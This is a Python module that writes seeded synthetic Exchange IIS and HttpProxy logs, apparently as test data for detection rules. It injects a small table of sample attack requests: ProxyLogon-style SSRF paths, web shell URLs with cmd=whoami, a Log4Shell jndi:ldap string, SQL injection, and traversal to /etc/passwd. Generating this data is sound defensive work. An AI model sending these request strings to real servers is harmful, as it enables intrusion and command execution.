"""Synthetic IIS and HttpProxy logs of an Exchange server: seeded, with a few injected attack lines that are inert."""

# ruff: noqa: E501 - tables of log lines and rules, one a line

from __future__ import annotations

import random
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

__all__ = ["HTTPPROXY_FIELDS", "IIS_FIELDS", "indicator_values", "write_httpproxy", "write_iis"]

IIS_FIELDS = (
    "date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) "
    "sc-status sc-substatus sc-win32-status time-taken"
)
HTTPPROXY_FIELDS = (
    "DateTime,RequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,ClientRequestId,Protocol,UrlHost,UrlStem,"
    "ProtocolAction,AuthenticationType,IsAuthenticated,AuthenticatedUser,Organization,AnchorMailbox,UserAgent,"
    "ClientIpAddress,ServerHostName,HttpStatus,BackEndStatus,ErrorCode,Method,ProxyAction,TargetServer,"
    "TargetServerVersion,RoutingType,RoutingHint,BackEndCookie,ServerLocatorHost,ServerLocatorLatency,RequestBytes,"
    "ResponseBytes,TargetOutstandingRequests,AuthModulePerfContext,HttpPipelineLatency,CalculateTargetBackEndLatency,"
    "GlsLatencyBreakup,TotalGlsLatency,AccountForestLatencyBreakup,TotalAccountForestLatency,"
    "ResourceForestLatencyBreakup,TotalResourceForestLatency,ADLatency,SharedCacheLatencyBreakup,"
    "TotalSharedCacheLatency,ActivityContextLifeTime,ModuleToHandlerSwitchingLatency,ClientReqStreamLatency,"
    "BackendReqInitLatency,BackendReqStreamLatency,BackendProcessingLatency,BackendRespInitLatency,"
    "BackendRespStreamLatency,ClientRespStreamLatency,KerberosAuthHeaderLatency,HandlerCompletionLatency,"
    "RequestHandlerLatency,HandlerToModuleSwitchingLatency,ProxyTime,CoreLatency,RoutingLatency,HttpProxyOverhead,"
    "TotalRequestTime,RouteRefresherLatency,UrlQuery,BackEndGenericInfo,GenericInfo,GenericErrors,EdgeTraceId,"
    "DatabaseGuid,UserADObjectGuid,PartitionEndpointLookupLatency,RoutingStatus"
)
_AGENTS = (
    ("Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/88.0.4324.190+Safari/537.36", 30),
    ("Mozilla/5.0+(Macintosh;+Intel+Mac+OS+X+10_15_7)+AppleWebKit/605.1.15+(KHTML,+like+Gecko)+Version/14.0.3+Safari/605.1.15", 9),
    ("Mozilla/5.0+(Windows+NT+10.0;+WOW64;+Trident/7.0;+rv:11.0)+like+Gecko", 9),
    ("Microsoft+Office/16.0+(Windows+NT+10.0;+Microsoft+Outlook+16.0.4266;+Pro)", 24),
    ("Apple-iPhone12C1/1804.47", 8),
    ("Android-SAMSUNG-SM-G973F/101.110000", 6),
    ("MSRPC", 4),
    ("Microsoft+WinRM+Client", 0.5),
    ("Microsoft-WebDAV-MiniRedir/10.0.17763", 0.1),
    ("Mozilla/4.0+(compatible;+MSIE+9.0;+Windows+NT+6.1;+MSEXCHMON;+ACTIVEMONITORING;+OWACTP)", 5),
    ("python-requests/2.25.1", 0.02),
    ("-", 0.003),
)  # fmt: skip
_PATHS = (
    ("GET", "/owa/", "bO=1&prfltncy=16&prfrpccnt=14&prfrpcltncy=15", 10),
    ("POST", "/owa/service.svc", "action=FindConversation&UA=0&EP=1&ID=-{n}&AC=1", 15),
    ("GET", "/owa/prem/15.1.2106.2/scripts/boot.worldwide.{k}.mouse.js", "-", 8),
    ("GET", "/owa/auth/logon.aspx", "url=https%3a%2f%2fmail.example.net%2fowa%2f&reason=0", 0.4),
    ("POST", "/ews/exchange.asmx", "", 14),
    ("POST", "/mapi/emsmdb/", "MailboxId={g}@example.net", 16),
    ("POST", "/mapi/nspi/", "MailboxId={g}@example.net", 5),
    ("POST", "/Microsoft-Server-ActiveSync/default.eas", "Cmd=Ping&User=user{k}%40example.net&DeviceId=DEV{n}&DeviceType=iPhone", 12),
    ("POST", "/Autodiscover/Autodiscover.xml", "", 5),
    ("GET", "/autodiscover/autodiscover.json/v1.0/user{k}@example.net", "Protocol=ActiveSync", 0.1),
    ("RPC_IN_DATA", "/rpc/rpcproxy.dll", "{g}@example.net:6001", 4),
    ("POST", "/powershell", "clientApplication=ActiveMonitor;PSVersion=5.1.14393.4467", 0.4),
    ("GET", "/ecp/15.1.2106.2/scripts/js.axd", "resources=_common&v={n}", 0.2),
    ("POST", "/ecp/DDI/DDIService.svc/GetList", "schema=MailboxService&msExchEcpCanary={g}", 0.1),
    ("GET", "/favicon.ico", "-", 0.5),
    ("GET", "/", "-", 1),
)  # fmt: skip
_BUSY = (
    ("POST", "/powershell", "clientApplication=ActiveMonitor;PSVersion=5.1.14393.4467;&sessionID={n}", 2.2),
    ("GET", "/ecp/15.1.2106.2/scripts/js.axd", "resources=_common&v={n}&ClientId={g}", 1.8),
    ("POST", "/owa/plt1.ashx", "cId={g}&nId={n}", 1.6),
    ("GET", "/autodiscover/autodiscover.json", "Email=user{k}%40example.net&Protocol=Autodiscoverv1&n={n}", 1.6),
    ("GET", "/owa/auth/logon.aspx", "url=https%3a%2f%2fmail.example.net%2fowa%2f%3fid%3d{n}&reason=0", 0.6),
)  # fmt: skip
"""What rules look for and every server is asked for, each time with another query."""
_ATTACKS = (
    ("POST", "/ecp/y.js", "-", "ExchangeServicesClient/0.0.0.0", 241),
    ("POST", "/ecp/main.css", "-", "python-requests/2.25.1", 200),
    ("POST", "/aspnet_client/zxw-sample.aspx", "-", "antSword/v2.1", 200),
    ("GET", "/owa/auth/sample9x.aspx", "cmd=whoami", "curl/7.64.1", 200),
    ("GET", "/autodiscover/autodiscover.json", "@evil.example/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.example", "-", 302),
    ("GET", "/index.php", "id=1+union+all+select+null", "sqlmap/1.5", 404),
    ("GET", "/search", "q=${{jndi:ldap://x.example/a}}", "Mozilla/5.0", 404),
    ("GET", "/cgi-bin/../../../../etc/passwd", "-", "Nikto/2.1.6", 400),
    ("GET", "/wp-login.php", "x={{{{7*7}}}}", "gobuster/3.1.0", 404),
)  # fmt: skip
_ATTACKERS = 25
"""Addresses that attack lines come from; no other line has them."""


def indicator_values(count: int = 540, seed: int = 7) -> tuple[list[str], list[str], list[str]]:
    """Addresses, domains and user agents that no ordinary line of these logs contains."""
    chance = random.Random(seed)
    addresses = sorted(
        {
            f"{chance.randint(11, 99)}.{chance.randint(0, 255)}.{chance.randint(0, 255)}.{chance.randint(1, 254)}"
            for _ in range(count * 2)
        }
    )
    words = ["".join(chance.choices("bcdfghklmnprstvwz", k=9)) for _ in range(count)]
    domains = [f"{word}.example" for word in words[: count // 4]]
    agents = [f"{word}Agent/1.{number}" for number, word in enumerate(words[-20:])]
    return addresses[: count - len(domains) - len(agents)], domains, agents


def _addresses(chance: random.Random, avoid: set[str]) -> list[str]:
    made = (f"10.{chance.randint(0, 31)}.{chance.randint(0, 255)}.{chance.randint(1, 254)}" for _ in range(6000))
    public = (
        f"{chance.randint(101, 199)}.{chance.randint(0, 255)}.{chance.randint(0, 255)}.{chance.randint(1, 254)}"
        for _ in range(2000)
    )
    return [address for address in (*made, *public) if address not in avoid]


def _guid(chance: random.Random) -> str:
    text = f"{chance.getrandbits(128):032x}"
    return f"{text[:8]}-{text[8:12]}-{text[12:16]}-{text[16:20]}-{text[20:]}"


def _iis_lines(
    chance: random.Random, rate: float, attacks: float, flood: str | None, flood_rate: float, busy: bool
) -> Iterator[tuple[str, bool]]:
    bad = indicator_values()[0]
    good = _addresses(chance, set(bad))
    agents, agent_weights = zip(*_AGENTS, strict=True)
    asked = (*_PATHS, *_BUSY) if busy else _PATHS
    weights = [row[3] for row in asked]
    users = ["-"] + [f"EXAMPLE\\user{number}" for number in range(900)]
    guids = [_guid(chance) for _ in range(4000)]
    moment = datetime(2021, 2, 1, tzinfo=UTC)
    while True:
        moment += timedelta(seconds=1)
        stamp = moment.strftime("%Y-%m-%d %H:%M:%S")
        paths = chance.choices(asked, weights, k=20)
        uas = chance.choices(agents, agent_weights, k=20)
        for (method, stem, query, _), agent in zip(paths, uas, strict=True):
            roll = chance.random()
            injected = False
            status = 200 if roll < 0.9 else 401
            address = good[int(roll * 1e6) % len(good)]
            if roll < attacks:
                method, stem, query, agent, status = chance.choice(_ATTACKS)
                address = f"203.0.113.{chance.randint(1, _ATTACKERS)}"
                injected = True
            elif roll > 1 - rate:
                address = chance.choice(bad)
            if flood is not None and chance.random() < flood_rate:
                agent = flood
            number = int(roll * 1e9)
            guid = guids[number % 4000]
            stem = stem.format(k=number % 100)
            query = query if query == "-" else query.format(n=number, k=number % 900, g=guid)
            tail = (
                f"&CorrelationID=<empty>;&cafeReqId={guid};"
                if stem[1:3] in ("ow", "ec", "ew", "ma") and query != "-"
                else ""
            )
            referer = "https://mail.example.net/owa/" if stem.startswith("/owa/") else "-"
            yield (
                f"{stamp} 10.1.2.3 {method} {stem} {query}{tail or ''} 443 {users[number % 901]} {address} {agent} "
                f"{referer} {status} 0 0 {number % 997}\r\n".replace("  ", " - "),
                injected,
            )


def write_iis(
    path: Path,
    size: int,
    *,
    seed: int = 1,
    rate: float = 0.0,
    attacks: float = 1e-4,
    flood: str | None = None,
    flood_rate: float = 0.0,
    busy: bool = False,
) -> int:
    """Writes a log of about `size` bytes; returns how many attack lines were injected.

    Args:
        path: Where.
        size: Bytes.
        seed: Same seed, same bytes.
        rate: Share of lines whose client address is an indicator.
        attacks: Share of injected attack lines.
        flood: A user agent that a flood of lines carries.
        flood_rate: Share of these lines.
        busy: True for more of the requests that rules look for too.
    """
    chance = random.Random(seed)
    written = count = 0
    head = "#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n#Date: 2021-02-01 00:00:00\r\n"
    with path.open("w", encoding="ascii", newline="", buffering=1 << 20) as file:
        written += file.write(f"{head}#Fields: {IIS_FIELDS}\r\n")
        for line, injected in _iis_lines(chance, rate, attacks, flood, flood_rate, busy):
            written += file.write(line)
            count += injected
            if written >= size:
                return count
    return count


def write_httpproxy(path: Path, size: int, *, seed: int = 1, attacks: float = 1e-4) -> int:
    """Writes an HttpProxy log of about `size` bytes; returns how many attack lines were injected."""
    chance = random.Random(seed)
    names = HTTPPROXY_FIELDS.split(",")
    good = _addresses(chance, set())
    moment = datetime(2021, 2, 1, tzinfo=UTC)
    written = count = 0
    latencies = [",".join(str(chance.randint(0, 900)) for _ in range(30)) for _ in range(500)]
    infos = [
        "BeginRequest=2021-02-01T00:00:00.000Z;CorrelationID=<empty>;ProxyState-Run=None;FEAuth=BEVersion-1941996458;"
        f"NewConnection=10.1.2.{chance.randint(1, 250)}&0;BeginGetResponse=2021-02-01T00:00:00.01Z;"
        f"OnResponseReady=2021-02-01T00:00:00.02Z;EndGetResponse=2021-02-01T00:00:00.02Z;I32:ADS.C[DC1]={chance.randint(1, 9)};"
        f"F:ADS.AL[DC1]={chance.random():.4f};I32:ATE.C[DC1]=1;F:ATE.AL[DC1]=0"
        for _ in range(500)
    ]  # fmt: skip
    with path.open("w", encoding="ascii", newline="", buffering=1 << 20) as file:
        written += file.write(
            f"#Software: Microsoft Exchange Server\r\n#Version: 15.01.2106.002\r\n#Log-type: HttpProxy Logs\r\n#Fields: {HTTPPROXY_FIELDS}\r\n"
        )
        while written < size:
            moment += timedelta(milliseconds=40)
            stamp = moment.strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "Z"
            roll = chance.random()
            number = int(roll * 1e9)
            anchor, stem = f"Smtp~user{number % 900}@example.net", "/owa/service.svc"
            if roll < attacks:
                anchor, stem = "ServerInfo~a]@mail.example.net:444/mapi/emsmdb/?#", "/ecp/y.js"
                count += 1
            guid = _guid(chance)
            front = (
                f"{stamp},{guid},15,1,2106,2,{guid},Owa,mail.example.net,{stem},,FBA,true,EXAMPLE\\user{number % 900},,"
                f"{anchor},Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML  like Gecko) Chrome/88.0.4324.190 Safari/537.36,"
                f"{good[number % len(good)]},EX01,200,200,,POST,Proxy,ex01.example.net,15.01.2106.000,IntraForest,AnchorMailbox,,,0,"
                f"{number % 9000},{number % 70000},1,,"
            )  # fmt: skip
            rest = f"{latencies[number % 500]},,,{infos[number % 500]},,,,,,"
            row = front + rest
            missing = len(names) - 1 - row.count(",")
            written += file.write(row + "," * missing + "\r\n")
    return count
